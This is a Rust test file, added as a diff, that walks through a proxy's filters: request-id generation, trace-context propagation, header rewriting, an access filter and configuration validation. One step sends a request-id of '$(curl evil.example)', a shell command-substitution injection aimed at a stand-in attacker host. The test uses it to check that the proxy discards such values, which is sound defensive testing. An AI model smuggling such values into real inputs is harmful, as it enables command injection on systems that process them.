@@ -1,0 +1,154 @@
+//! The steps, filter by filter.
+
+use super::check::{Expect, Is, Place};
+use super::{Action, Step};
+use crate::proxy::filters::TELEMETRY;
+use crate::services::{ORDER, USER};
+use Expect::{Body, Counted, Header, Reached, Refused, Status};
+use Place::{At, Response};
+use serde_json::json;
+use tollgate_host_test::Request;
+
+/// The trace id and the span id of the examples in W3C Trace Context.
+const TRACE: &str = "4bf92f3577b34da6a3ce929d0e0e4736";
+const SPAN: &str = "00f067aa0ba902b7";
+
+/// All steps, in order.
+pub fn all() -> Vec<Step> {
+    [request_id(), trace_context(), headers(), hello(), configuration()].into_iter().flatten().collect()
+}
+
+fn step<const N: usize>(title: &'static str, request: Request, expect: [Expect; N]) -> Step {
+    Step { title, action: Action::Send(request), expect: expect.into() }
+}
+
+/// As `curl` would send it.
+fn get(path: &str) -> Request {
+    Request::get(path).authority("shop.example").header("user-agent", "tour/1")
+}
+
+fn request_id() -> Vec<Step> {
+    const ID: &str = "x-request-id";
+    vec![
+        step(
+            "A request without an id gets one, and a trace",
+            get("/users/1"),
+            [
+                Status(200),
+                Reached(&[USER]),
+                Header(At(USER), ID, Is::Uuid),
+                Header(Response, ID, Is::SameAt(At(USER))),
+                Header(At(USER), "traceparent", Is::Trace),
+                Counted("request_id_generated", 1),
+                Counted("trace_generated", 1),
+            ],
+        ),
+        step(
+            "The id that a client chose is kept, and echoed",
+            get("/users/2").header(ID, "checkout-2024:0042"),
+            [
+                Status(200),
+                Header(At(USER), ID, Is::Text("checkout-2024:0042")),
+                Header(Response, ID, Is::Text("checkout-2024:0042")),
+                Counted("request_id_kept", 1),
+            ],
+        ),
+        step(
+            "An id that is not fit for a log line is replaced",
+            get("/users/3").header(ID, "$(curl evil.example)"),
+            [
+                Status(200),
+                Header(At(USER), ID, Is::Uuid),
+                Header(Response, ID, Is::SameAt(At(USER))),
+                Counted("request_id_invalid", 1),
+                Counted("request_id_generated", 1),
+            ],
+        ),
+    ]
+}
+
+fn trace_context() -> Vec<Step> {
+    const PARENT: &str = "traceparent";
+    vec![
+        step(
+            "A trace that a client began goes on",
+            get("/users/1").header(PARENT, format!("00-{TRACE}-{SPAN}-01")).header("tracestate", "shop=1"),
+            [
+                Status(200),
+                Header(At(USER), PARENT, Is::Continues(TRACE, SPAN)),
+                Header(At(USER), "tracestate", Is::Text("shop=1")),
+                Counted("trace_continued", 1),
+            ],
+        ),
+        step(
+            "A malformed trace is not passed on: a new one begins",
+            get("/users/1")
+                .header(PARENT, format!("00-{TRACE}-0000000000000000-01"))
+                .header("tracestate", "shop=1"),
+            [
+                Status(200),
+                Header(At(USER), PARENT, Is::NotOfTrace(TRACE)),
+                Header(At(USER), "tracestate", Is::Absent),
+                Counted("traceparent_invalid", 1),
+                Counted("trace_restarted", 1),
+            ],
+        ),
+        step(
+            "Two hops, one trace: order-service asks user-service through the proxy",
+            get("/orders/7"),
+            [
+                Status(200),
+                Reached(&[ORDER, USER]),
+                Header(At(ORDER), PARENT, Is::Trace),
+                Header(At(USER), PARENT, Is::NextSpanAfter(At(ORDER))),
+                Header(At(USER), "x-request-id", Is::SameAt(At(ORDER))),
+                Counted("trace_generated", 1),
+                Counted("trace_continued", 1),
+            ],
+        ),
+    ]
+}
+
+fn headers() -> Vec<Step> {
+    vec![
+        step(
+            "Headers are set and removed, on the way in and on the way out",
+            get("/users").header("x-debug", "1"),
+            [
+                Status(200),
+                Header(At(USER), "x-debug", Is::Absent),
+                Header(At(USER), "x-caller", Is::Text("tour/1")),
+                Header(Response, "x-powered-by", Is::Absent),
+                Header(Response, "cache-control", Is::Text("no-store")),
+            ],
+        ),
+        step(
+            "Browsers see what the service took: it needs 25 ms for a report",
+            get("/users/report"),
+            [Status(200), Header(Response, "server-timing", Is::Timing("upstream", 25))],
+        ),
+    ]
+}
+
+fn hello() -> Vec<Step> {
+    vec![
+        step(
+            "The example of a filter keeps strangers out",
+            get("/staff/1"),
+            [Status(403), Body("not_allowed"), Reached(&[])],
+        ),
+        step(
+            "... and lets in who may come in",
+            get("/staff/1").header("x-team", "support"),
+            [Status(200), Reached(&[USER])],
+        ),
+    ]
+}
+
+fn configuration() -> Vec<Step> {
+    vec![Step {
+        title: "A configuration with a misspelt field is refused before it does harm",
+        action: Action::Validate(TELEMETRY, json!({ "reqest_id": {} })),
+        expect: vec![Refused(&["reqest_id", "request_id"])],
+    }]
+}
